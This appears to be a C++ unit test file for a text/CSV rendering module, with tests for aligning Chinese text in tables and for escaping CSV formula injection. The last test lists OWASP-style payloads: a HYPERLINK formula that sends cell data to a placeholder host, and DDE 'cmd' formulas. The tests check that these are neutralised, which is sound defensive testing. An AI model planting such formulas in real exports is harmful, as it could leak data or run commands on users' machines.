#include "consult/render.hpp"

#include <doctest/doctest.h>

#include <string>
#include <utility>
#include <vector>

using namespace consult::render;

TEST_CASE("tables align Chinese text by display width") {
  Table t({{"ID", Align::right}, {"TITLE"}, {"PLACE"}});
  t.add_row({"1", "屋顶漏水", "3号楼"});
  t.add_row({"12", "parking", "B"});
  CHECK(t.to_text() == "ID  TITLE     PLACE\n"
                       " 1  屋顶漏水  3号楼\n"
                       "12  parking   B\n");
}

TEST_CASE("limited columns are cut with an ellipsis") {
  Table t({{"A", Align::left, 5}, {"B"}});
  t.add_row({"和平里社区居民", "x"});
  CHECK(t.to_text() == "A      B\n和平…  x\n");
}

TEST_CASE("cells are kept on one line") {
  Table t({{"A"}});
  t.add_row({"a\nb"});
  CHECK(t.to_text() == "A\na b\n");
}

TEST_CASE("csv quotes what must be quoted") {
  CHECK(csv_field("plain") == "plain");
  CHECK(csv_field("a,b") == "\"a,b\"");
  CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
  Table t({{"A"}, {"B"}});
  t.add_row({"1", "x,y"});
  CHECK(t.to_csv() == "A,B\r\n1,\"x,y\"\r\n");
}

TEST_CASE("key-value lines align their keys") {
  CHECK(key_values({{"Issue", "1"}, {"社区", "和平"}}) == "Issue: 1\n社区:  和平\n");
}

TEST_CASE("csv cells a spreadsheet would run are written as text, and read back") {
  // What a suggestion box can hold, as OWASP's CSV-injection cases list them.
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\""},
      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3"},
      {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
      {"\t=1+1", "'\t=1+1"},
      {"\r=1+1", "\"'\r=1+1\""},
  };
  for (const auto& [cell, written] : cases) {
    CAPTURE(cell);
    CHECK(csv_field(cell) == written);
  }
  // Numbers stay numbers: a sign, thousands separators, decimals, percent.
  for (const std::string n : {"-5", "+86", "12.5%", "0"})
    CHECK(csv_field(n) == n);
  CHECK(csv_field("-1,234.50") == "\"-1,234.50\""); // quoted for its comma, not neutralised
  // Text that only contains such a character elsewhere is left alone.
  CHECK(csv_field("屋顶=漏水") == "屋顶=漏水");
  CHECK(csv_field("a-b") == "a-b");
  // Read back (consult's importer): the apostrophe it added comes off; one a
  // person typed before ordinary text stays.
  CHECK(unneutralise_csv("'=1+1") == "=1+1");
  CHECK(unneutralise_csv("'\t=1+1") == "\t=1+1");
  CHECK(unneutralise_csv("'-2+3") == "-2+3");
  CHECK(unneutralise_csv("'-5") == "'-5");
  CHECK(unneutralise_csv("'abc") == "'abc");
  CHECK(unneutralise_csv("=1+1") == "=1+1");
}
